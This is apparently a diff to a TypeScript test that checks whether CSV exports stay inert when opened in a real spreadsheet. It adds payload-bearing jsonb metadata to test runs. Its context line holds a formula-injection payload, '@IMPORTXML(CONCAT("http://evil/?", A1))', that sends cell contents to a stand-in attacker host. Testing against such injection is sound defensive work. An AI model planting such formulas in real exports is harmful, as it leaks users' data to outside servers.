@@ -62,7 +62,8 @@ describe.runIf(toolAvailable('soffice'))('CSV in a real spreadsheet', () => {
     await insertFeature(env.admin, project, { key: '@IMPORTXML(CONCAT("http://evil/?", A1))', title: `${'big cell '.repeat(1_165_000)}end`, metadata: nested });
     for (const [i, payload] of SPREADSHEET_PAYLOADS.entries()) {
       await insertRelease(env.admin, project, { version: payload, notes: payload });
-      await insertRun(env.admin, project, { number: i + 1, branch: payload, durationMs: i % 2 ? '-5' : '9007199254740993' });
+      // jsonb is written without the formula rule (its text never starts a formula): a JSON string holding a payload, and a negative number, must stay inert.
+      await insertRun(env.admin, project, { number: i + 1, branch: payload, durationMs: i % 2 ? '-5' : '9007199254740993', metadata: i % 3 === 2 ? '-12.5' : JSON.stringify(payload) });
     }
     const id = await insertRequest(env.admin, user);
     expect((await fulfillInProcess(env, { requestIds: [id] })).summary.ready).toBe(1);
